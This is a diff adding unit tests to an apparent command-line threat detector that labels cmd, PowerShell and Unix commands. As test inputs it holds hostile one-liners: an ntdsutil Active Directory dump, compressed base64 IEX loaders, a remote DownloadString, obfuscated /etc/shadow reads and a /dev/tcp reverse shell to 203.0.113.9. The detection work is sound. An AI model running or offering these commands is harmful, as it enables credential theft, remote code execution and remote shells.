@@ -70,6 +70,31 @@ TEST(Cmd, FeedsEchoToWhatReadsIt) {
   EXPECT_EQ(read("cmd /c echo whoami|powershell -").main, "self_query");
 }
 
+TEST(Cmd, FeedsTheEchoesOfABlockToAPrompt) {
+  EXPECT_EQ(read("cmd /c (echo ac i ntds & echo ifm & echo create full C:\\x & echo q) | ntdsutil").main,
+            "ntds_copy");
+  EXPECT_EQ(read("cmd /c (echo interface portproxy&echo add v4tov4 9999 10.1.1.1)|netsh").main,
+            "port_proxy_add");
+  EXPECT_EQ(read("cmd /c echo process call create calc.exe | wmic").main, "wmi_process_create");
+  EXPECT_EQ(read("cmd /c (echo create & echo exec c:\\x\\y.cmd) | diskshadow").actions,
+            (Texts{"shell_run", "shadow_copy_create", "proxy_execution"}));
+  EXPECT_EQ(read("cmd /c (echo whoami) & ntdsutil").actions, (Texts{"shell_run"}));
+  EXPECT_EQ(read("cmd /c wmic < c:\\x\\lines.txt").unresolved, (Texts{"commands on standard input"}));
+}
+
+TEST(Cmd, TakesApartTheLineOfFor) {
+  for (const std::string line : {R"(for /f "tokens=2 delims=," %a in ("x,whoami,y") do %a)",
+                                 R"(for /f "delims=_ tokens=1,3" %a in ("who_x_ami") do %a%b)",
+                                 R"(for /f "tokens=2*" %a in ("x cmd /c whoami") do %a %b)",
+                                 R"(for /f "usebackq delims=" %a in ('whoami') do %a)",
+                                 R"(for /f "delims=" %a in ('echo whoami') do %a)",
+                                 R"(for /f "tokens=1-2" %a in ("who ami") do %a%b)"})
+    EXPECT_TRUE(read(Input{.line = line, .origin = Origin::cmd}).has("self_query")) << line;
+  const Reading other =
+      read(Input{.line = R"(for /f "tokens=2" %a in ("whoami x") do %a)", .origin = Origin::cmd});
+  EXPECT_FALSE(other.has("self_query"));
+}
+
 TEST(Powershell, TakesItsSwitchesInEveryForm) {
   const std::string code = encoded_command("whoami /all");
   for (const std::string name : {"-e", "-ec", "-en", "-enc", "-EnCoDeD", "-encodedcommand", "/e", "/enc",
@@ -144,6 +169,44 @@ TEST(Powershell, DecodesAndUnpacks) {
             "logon_events_read");
 }
 
+TEST(Powershell, UnpacksWhatLoadersArePackedIn) {
+  const std::string packed = "[Convert]::FromBase64String('H4sIAAAAAAACAyvPyE/MzQQAAirKwAYAAAA=')";
+  const std::string way = ",[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
+  for (const std::string& script :
+       {"$s=New-Object IO.MemoryStream(," + packed +
+            ");IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s" + way,
+        "&([scriptblock]::create((New-Object System.IO.StreamReader(New-Object "
+        "System.IO.Compression.GzipStream("
+        "(New-Object System.IO.MemoryStream(," +
+            packed + "))" + way + "))",
+        "$b=" + packed +
+            ";$s=[IO.MemoryStream]::new($b);iex ([IO.StreamReader]::new([IO.Compression.GzipStream]"
+            "::new($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"})
+    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::powershell}).has("self_query")) << script;
+}
+
+TEST(Powershell, JoinsAProgramAndItsArguments) {
+  const std::string code = encoded_command("whoami");
+  for (const std::string& script :
+       {std::string("Start-Process cmd -ArgumentList '/c whoami'"), std::string("saps cmd '/c','whoami'"),
+        std::string("start -wi hidden -f cmd -args '/c whoami'"),
+        "Start-Process powershell \"-enc " + code + "\"",
+        std::string("$p='cmd';Start-Process -FilePath $p -ArgumentList \"/c whoami\" -WindowStyle Hidden")})
+    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::powershell}).has("self_query")) << script;
+  const Reading hidden = read("powershell Start-Process cmd -ArgumentList '/c dir' -WindowStyle Hidden");
+  EXPECT_TRUE(hidden.has("program_start_hidden"));
+}
+
+TEST(Powershell, KnowsTheClassesBehindMethods) {
+  EXPECT_TRUE(
+      read("powershell ([wmiclass]'root\\cimv2:win32_process').Create('cmd /c whoami')").has("self_query"));
+  EXPECT_TRUE(read("powershell (gwmi -List win32_shadowcopy).Create('C:\\','ClientAccessible')")
+                  .has("shadow_copy_create"));
+  EXPECT_TRUE(read("powershell Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create")
+                  .has("shadow_copy_create"));
+  EXPECT_FALSE(read("powershell [Net.WebRequest]::Create('http://x/')").has("wmi_process_create"));
+}
+
 TEST(Powershell, MakesCommandsOfCallsThatDoSomething) {
   const Reading reading =
       read("powershell iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
@@ -165,6 +228,25 @@ TEST(Sh, ResolvesQuotesVariablesAndBlanks) {
         "if true; then cat /etc/shadow; fi", "echo 636174202f6574632f736861646f77 | xxd -r -p | sh"}) {
     EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
   }
+}
+
+TEST(Sh, KnowsAFileBehindWildcardsAndHandles) {
+  for (const std::string script :
+       {"cat /etc/sh?dow", "cat /e?c/shadow", "head /etc/[s]hadow", "cat < /etc/shadow", "dd if=/etc/shadow",
+        "awk 1 /etc/shadow", "tar cf - /etc/shadow", "find /etc -name shadow -exec cat /etc/shadow \\;"})
+    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
+  for (const std::string script : {"cat /etc/*release", "cat /etc/*", "cat /etc/os-rele?se"})
+    EXPECT_FALSE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
+  EXPECT_TRUE(read(Input{.line = "0<&196;exec 196<>/dev/tcp/203.0.113.9/44; sh <&196 >&196 2>&196",
+                         .origin = Origin::unix})
+                  .has("reverse_shell"));
+}
+
+TEST(Sh, ReadsWhatOtherProgramsRun) {
+  for (const std::string script : {"find / -name x -exec whoami {} +", "sudo nsenter -t 1 -m -u -i -n whoami",
+                                   "docker exec -it web whoami", "podman run --rm -e A=1 alpine whoami",
+                                   "trap whoami EXIT", "find . -execdir sh -c 'id; w' \\;"})
+    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("self_query")) << script;
 }
 
 TEST(Sh, SaysWhatOnlyTheRunningProgramKnows) {
